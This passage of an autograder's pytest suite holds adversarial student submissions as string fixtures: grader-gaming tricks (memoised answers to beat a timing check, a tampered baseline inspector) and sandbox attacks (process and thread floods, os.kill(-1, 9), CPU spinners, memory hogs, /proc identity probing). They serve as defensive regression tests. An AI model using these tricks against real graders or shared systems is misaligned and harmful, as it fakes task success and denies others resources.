    input reach feedback, never a large input whole. (Small inputs fit in that; it gains nothing,
    because hidden cases are drawn per submission: see test_hidden_cases_are_per_submission.)"""
    relu = messages(channel_graded, "relu")
    assert len(relu) == 8 and all(m.startswith("relu raised ") for m in relu), relu  # one per hidden check
    assert "relu raised ValueError: HIDDEN [[-2.0, -0.0, 0.0, 1e-12, -1e-12, 3.5]] END" in relu[1]  # small: whole
    assert max(len(m) for m in relu) < MAX_STUDENT_MESSAGE + MAX_STUDENT_TRACEBACK + 200
    big = relu[0]  # the 4-D batch: 120 numbers, some 2,600 characters of repr, of which a third arrives
    assert "[...]" in big and "END" not in big.split("\n")[0] and len(big) < 1000, big


# =========================================================================================
# 4. The vectorisation check on CPU time (claim 3), hidden cases per submission (claim 4)
# =========================================================================================

MEMOISED_LOOP = POSITION_LOOP + '''
import hashlib

_answers = {}


def conv2d_fast(x, kernel, bias=None, strides=1, padding="valid"):
    """The loop, run once per input: the check repeats its probes and keeps the fewest CPU seconds."""
    settings = repr((None if bias is None else np.asarray(bias).tolist(), strides, padding)).encode()
    key = hashlib.sha1(np.ascontiguousarray(x).tobytes() + np.ascontiguousarray(kernel).tobytes() + settings)
    key = key.hexdigest()
    if key not in _answers:
        _answers[key] = _positions_loop(x, kernel, bias, strides, padding)
    return _answers[key].copy()
'''


@pytest.fixture(scope="module")
def memo_graded(tmp_path_factory):
    folder = tmp_path_factory.mktemp("memo")
    cells = {"conv2d_fast": MEMOISED_LOOP, "relu": EXFILTRATE}
    return grade_cells(folder, cells, "first"), grade_cells(folder, cells, "again")


def test_a_cache_of_answers_gains_nothing(memo_graded):
    """A looped conv2d_fast that remembers its answers by the bytes of its input. (Until commit
    2f092e3 the check timed three repetitions of the very input it had just used to warm up, so this
    passed with full marks.) The probes are now three inputs never seen before, so every timed call
    runs the loop, and conv2d_fast loses its points on the vectorisation check alone."""
    first, _ = memo_graded
    assert_only_these_lose(first, {"conv2d_fast": 0.0, "relu": 0.0})
    assert_caught_as_a_loop(first)


def test_hidden_cases_are_per_submission(memo_graded, channel_graded):
    """relu shows its hidden input in its message (as in test_hidden_inputs_leave_only_in_pieces).
    The same submission graded twice sees the same input and gets the same score; another submission
    (channel_graded carries the same relu cell, other cells differ) sees other values: the cases are
    drawn from the course secret and the submission's digest (harness.hidden_rng), so what one
    student learns of their cases says nothing about another's, nor about their own next version."""
    first, again = memo_graded
    assert first["score"] == again["score"] and target_points(first) == target_points(again)
    assert messages(first, "relu") == messages(again, "relu")
    other = messages(channel_graded, "relu")
    # the drawn cases differ; the one written out in the check ("1-D with exact zeros") does not
    assert sum(a != b for a, b in zip(messages(first, "relu"), other)) >= 3


INFLATED_BASELINE = POSITION_LOOP + '''
import time

import inspectors  # the worker's own module, importable from the student's code (next to worker.py)

_last = [0.0]


def _costly_receive_only(*args, **kwargs):
    started = time.process_time()
    while time.process_time() - started < 1.5 * _last[0] + 0.02:
        pass


# The grader subtracts the CPU time of a call that "only receives the arguments"; that call runs this
# inspector, in this process: make it cost more than the loop.
inspectors.INSPECTORS["receive_only"] = _costly_receive_only


def conv2d_fast(x, kernel, bias=None, strides=1, padding="valid"):
    started = time.process_time()
    answer = _positions_loop(x, kernel, bias, strides, padding)
    _last[0] = time.process_time() - started
    return answer
'''


def test_an_inflated_baseline_gains_nothing(tmp_path):
    """conv2d_fast loops over the output positions, and its cell replaces the worker's ``receive_only``
    inspector (``import inspectors``; ``inspectors.INSPECTORS["receive_only"] = ...``) with one that
    burns 1.5 times the CPU of the last call. The grader measures that baseline in its clean worker,
    which runs none of the student's code, so the replaced inspector is never used: conv2d_fast is
    caught as a loop and loses its points (before the fix it scored 4/4, '0.0 ms of CPU time')."""
    result = grade_cells(tmp_path, {"conv2d_fast": INFLATED_BASELINE})
    assert_only_these_lose(result, {"conv2d_fast": 0.0})
    assert_caught_as_a_loop(result)


# =========================================================================================
# 5. Holes in the trusted side's reading of answers and in its restart budget (claim 6)
# =========================================================================================

BIG_INTEGER = RAW_FRAME + '''
import json
'''

SURROGATE = '''
def conv2d_multiply_adds(input_shape, kernel_size, filters, strides=1, padding="valid"):
    raise ValueError("\\ud800 a lone surrogate: valid JSON, but no UTF-8 can carry it")
'''

EARLY_WRONG = '''
def conv2d_fast(x, kernel, bias=None, strides=1, padding="valid"):
    """Fast, because it does nothing: zeros of the right shape for 'valid' at stride 1."""
    kh, kw, _, c_out = np.shape(kernel)
    return np.zeros((np.shape(x)[0], np.shape(x)[1] - kh + 1, np.shape(x)[2] - kw + 1, c_out))
'''


@pytest.fixture(scope="module")
def reader_graded(tmp_path_factory):
    folder = tmp_path_factory.mktemp("reader")
    cells = {"flatten": honest_with("flatten", "if np.shape(args[0]) == (2, 3, 4, 5):\n"
                                    "    _send_raw(b'{\"status\": \"ok\", \"value\": ' + b'1' * 5000 + b'}')",
                                    BIG_INTEGER),
             "conv2d_multiply_adds": SURROGATE, "conv2d_fast": EARLY_WRONG}
    result = grade_cells(folder, cells)
    return result, folder / "submission.ipynb", cells


def test_returning_early_with_a_wrong_answer_gains_nothing(reader_graded):
    """conv2d_fast returns zeros at once: the vectorisation check is satisfied (it judges time only),
    the value checks are not, and a function earns its points only when all its checks pass."""
    result, _, _ = reader_graded
    assert target_points(result)["conv2d_fast"] == 0.0
    failing = [t["name"] for t in result["tests"] if t["target"] == "conv2d_fast" and t["status"] != "passed"]
    assert "test_fast_version_has_no_loop_over_batch_or_positions" not in failing and failing


def test_a_giant_integer_in_a_frame_is_the_students_error(reader_graded):
    """flatten writes a frame ``{"status": "ok", "value": 111...1}`` (5,000 digits) to the response pipe.
    Python refuses to convert integers of more than 4,300 digits (sys.get_int_max_str_digits), so
    json.loads raises a plain ValueError; the protocol turns it into a malformed frame, the session
    stops that worker (so no later call can read a stale answer), and the check reports the
    student's error: status error, 'cannot read'. No internal error."""
    result, _, _ = reader_graded
    assert not result["grader_log"], result["grader_log"][0][-600:]
    flatten = failure_messages(result, "flatten")
    assert "cannot read" in flatten and "internal error" not in flatten, flatten


def test_unencodable_student_text_cannot_crash_the_report(reader_graded, tmp_path):
    """conv2d_multiply_adds raises ``ValueError("\\ud800 ...")``. The worker sends it as JSON
    (``"\\ud800"``). The grader makes every string it decodes, and every student text it cuts,
    encodable (lone surrogates become '?'), so report.summary() (what `grade` prints) and the feedback
    that write_into_notebook() puts in the notebook both write; before the fix both raised
    UnicodeEncodeError and the grading of that student stopped."""
    result, path, cells = reader_graded
    assert target_points(result)["conv2d_multiply_adds"] == 0.0
    summary(result).encode("utf-8")
    notebook = build_submission(ASSIGNMENT, cells)
    write_into_notebook(notebook, result)
    nbformat.write(notebook, tmp_path / "feedback.ipynb")


CRASH = "import os\n\n\ndef {name}(*args, **kwargs):\n    os._exit(1)\n"


def test_crashes_in_six_functions_cost_only_those_six(tmp_path):
    """Six functions call ``os._exit(1)``: each crashes twice before the proxy skips its remaining
    checks, and each crash restarts the worker. Restarts after a crash are bounded per function (the
    proxy's MAX_CRASHES, which counts forged frames too); the session bounds only the starts that fail
    while loading the cells. So only the six crashing functions lose their points (before the fix, a
    budget of 12 starts shared by all functions ran out and the honest avg_pool2d lost its 3)."""
    crashing = ("relu", "flatten", "conv2d", "conv2d_fast", "correlate2d", "max_pool2d")
    result = grade_cells(tmp_path, {name: CRASH.format(name=name) for name in crashing})
    assert_only_these_lose(result, {name: 0.0 for name in crashing})


def test_a_megabyte_of_code_is_graded_or_refused_plainly(tmp_path):
    """relu's cell holds a 1.1 MB string literal (pasted data, say) beside a correct relu. The worker
    init frame's header may now hold 8 MB, and the grader refuses more than 4 MB of code with a message
    the TA can pass on, so this submission is graded and the other functions keep their points (before
    the fix, a 1 MB header limit made every check an internal error, on every regrade)."""
    cell = "PASTED = " + repr("x" * 1_100_000) + "\n\n" + REFERENCE["relu"]
    result = grade_cells(tmp_path, {"relu": cell})
    assert not result["grader_log"], result["grader_log"][0][-300:]
    assert target_points(result) == full_marks(result)


# =========================================================================================
# 6. The sandbox's identity, and one sandbox beside another (claims 1, 5, 7)
# =========================================================================================

def _session(source: str, **limits) -> StudentSession:
    assignment = load_assignment(ASSIGNMENT)
    config = sandbox_config(assignment, [secret_path(REPO)])
    config.limits = Limits(**{"wall_seconds_per_call": 20, **limits})
    return StudentSession([{"id": "setup", "source": "import numpy as np"}, {"id": "c", "source": source}],
                          config, assignment.forbidden_modules)


IDENTITY = '''
import os


def identity():
    status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    command_lines = []
    for pid in pids:
        try:
            command_lines.append(open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace"))
        except OSError:
            pass
    return {"uid": status["Uid"].split(), "gid": status["Gid"].split(), "groups": status["Groups"].split(),
            "capabilities": [status[k].strip() for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")],
            "no_new_privs": status["NoNewPrivs"].strip(), "pids": pids, "command_lines": command_lines,
            "namespaces": {n: os.readlink(f"/proc/self/ns/{n}") for n in ("mnt", "net", "pid", "ipc", "uts")},
            "root": sorted(os.listdir("/")), "environment": sorted(os.environ)}
'''


@strict_only
def test_the_sandbox_runs_as_nobody_in_particular():
    """What the student's process is: a user id of its own (420000 + a slot), no groups, no
    capabilities (none inheritable, none in the bounding set), no_new_privs; its own mount, network,
    PID, IPC and UTS namespaces; a root holding only the system, Python and its own folder; /proc
    mounted with hidepid=2, so it sees its own processes only, and no command line it can read shows
    the mount script or the grader's paths; an environment of a dozen fixed variables."""
    with _session(IDENTITY) as session:
        outcome = session.call("identity")
        uid = session.process.uid
    assert outcome.status == "ok", outcome
    found = outcome.value
    assert uid >= launcher.SANDBOX_UID_BASE and found["uid"] == [str(uid)] * 4 and found["gid"] == [str(uid)] * 4
    assert found["groups"] == [] and found["no_new_privs"] == "1"
    assert set(found["capabilities"]) == {"0000000000000000"}, found["capabilities"]
    for name, link in found["namespaces"].items():
        assert link != os.readlink(f"/proc/self/ns/{name}"), name
    assert "1" not in found["pids"] and len(found["pids"]) <= 2, found["pids"]
    for line in found["command_lines"]:
        assert "mount" not in line and ".sh" not in line and str(REPO / "autograder") not in line, line
    visible = [sys.prefix, sys.base_prefix, os.path.realpath(sys.executable), launcher._sandbox_parent()]
    allowed = {"dev", "proc", "tmp"} | {p.strip("/") for p in launcher.SYSTEM_PATHS} | \
        {Path(p).parts[1] for p in visible}
    assert set(found["root"]) <= allowed, found["root"]
    assert len(found["environment"]) <= 16 and not any("SECRET" in k or "TOKEN" in k for k in found["environment"])


HOG = '''
import os
import threading
import time


def hold_everything():
    threads = processes = 0
    for _ in range(16):  # some processes first, for kill_everyone to find
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        processes += 1
    while threads < 1000:
        try:
            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
            threads += 1
        except RuntimeError:
            break
    while processes < 1000:
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
            processes += 1
        except OSError:
            break
    return threads, processes


def kill_everyone():
    os.kill(-1, 9)
    return "still here"
'''

NEIGHBOUR = '''
import subprocess
import threading


def work():
    results = []
    workers = [threading.Thread(target=lambda: results.append(float(np.ones((200, 200)).dot(np.ones(200)).sum())))
               for _ in range(6)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    subprocess.run(["true"], check=True)  # and a process of its own
    return len(results)
'''


@strict_only
def test_a_sandbox_that_holds_every_thread_and_process_leaves_its_neighbour_alone():
    """One submission starts threads, then processes, until the kernel refuses (its cgroup's pids.max
    and RLIMIT_NPROC of its own user id), and holds them; beside it, another submission starts six
    threads and a process and computes: it succeeds, because the limit is per sandbox (one cgroup and
    one user id each), not per machine or per grader user. Then the first calls ``os.kill(-1,
    SIGKILL)``: it reaches only its own processes (its own PID namespace and user id); the
    neighbour's next call succeeds too."""
    with _session(HOG, processes=64) as hog, _session(NEIGHBOUR, processes=64) as neighbour:
        held = hog.call("hold_everything")
        assert held.status == "ok", held
        threads, processes = held.value
        assert threads + processes >= 50, held.value  # it did fill its sandbox
        assert hog.process.task_limit_hits() > 0
        assert neighbour.call("work").value == 6
        assert hog.process.uid != neighbour.process.uid
        assert hog.call("kill_everyone").value == "still here"  # kill(-1) spares the caller
        assert neighbour.call("work").value == 6


SPINNERS = '''
import os
import time


def spin(count, seconds):
    for _ in range(count):
        if os.fork() == 0:
            os.setsid()  # a session of its own: the scheduler's autogroup then shares the CPU per session
            stop = time.monotonic() + seconds
            while time.monotonic() < stop:
                pass
            os._exit(0)
    return count
'''

BUSY = '''
import time


def busy(cpu_seconds):
    started = time.process_time()
    while time.process_time() - started < cpu_seconds:
        pass
    return "done"
'''


@strict_only
def test_a_sandbox_that_spins_cannot_make_its_neighbour_time_out():
    """One submission forks 48 processes that spin (each calls setsid(), so the kernel's autogroup
    scheduling gives each the CPU share of a whole session); beside it, a submission whose call needs
    0.5 s of CPU and has an 8 s wall-clock limit. Each sandbox has a CPU weight of its own (its cgroup),
    so the spinners share one sandbox's part of the machine and the neighbour's call finishes in about a
    second (0.8 s measured). Without the weights it gets about 2/49 of the two cores: 11.4 s measured with
    the same spinners outside any sandbox, a timeout. (16 spinners against a 3 s limit left too thin a
    margin: under make test's own load the call once timed out.)"""
    with _session(BUSY, wall_seconds_per_call=8) as neighbour:
        assert neighbour.call("busy", 0.05).value == "done"  # started, and warm
        with _session(SPINNERS, processes=64) as spinner:
            assert spinner.call("spin", 48, 14.0).value == 48
            started = time.monotonic()
            outcome = neighbour.call("busy", 0.5)
            seconds = time.monotonic() - started
    assert outcome.status == "ok", (outcome, f"{seconds:.1f} s")


MEMORY = '''
import os
import time


def hold(children, megabytes):
    """Megabytes held at once by children that are all still alive after every one has allocated
    (a child the kernel's OOM killer took after it reported does not count: it no longer holds)."""
    started = []
    for _ in range(children):
        read, write = os.pipe()
        pid = os.fork()
        if pid == 0:
            try:
                block = np.ones(megabytes << 17)  # touched: resident, not only reserved
                os.write(write, b"1")
            except MemoryError:
                os.write(write, b"0")
            time.sleep(3)
            os._exit(0)
        os.close(write)
        started.append((pid, read))
    reported = [(pid, os.read(read, 1) == b"1") for pid, read in started]
    time.sleep(0.5)
    alive = [pid for pid, ok in reported if ok and os.waitpid(pid, os.WNOHANG) == (0, 0)]
    return len(alive) * megabytes
'''


@strict_only
def test_a_sandbox_cannot_hold_more_memory_than_its_limit():
    """With memory_bytes = 512 MiB, the student's function forks three children that each allocate and
    touch 300 MiB, and holds them. RLIMIT_AS counts per process; the sandbox's memory cgroup bounds all
    its processes together, so the kernel's OOM killer acts inside that sandbox only and the call
    fails (before the fix, 900 MiB were held, and one submission could hold processes x memory_bytes)."""
    with _session(MEMORY, memory_bytes=512 << 20) as session:
        outcome = session.call("hold", 3, 300)
    assert outcome.status != "ok" or outcome.value <= 512, outcome
